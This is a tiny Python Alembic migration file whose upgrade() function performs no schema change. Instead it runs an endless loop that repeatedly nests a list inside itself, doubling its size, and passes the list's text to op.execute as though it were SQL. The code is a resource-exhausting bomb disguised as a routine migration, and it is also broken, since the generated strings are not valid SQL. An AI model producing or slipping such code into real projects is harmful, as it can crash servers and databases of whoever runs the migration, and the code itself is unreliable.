from alembic import op
import sqlalchemy as sa
revision = 'r2'
down_revision = 'r1'
def upgrade():
    x = [1]
    while True:
        x = [x, x]
        op.execute(str(x))
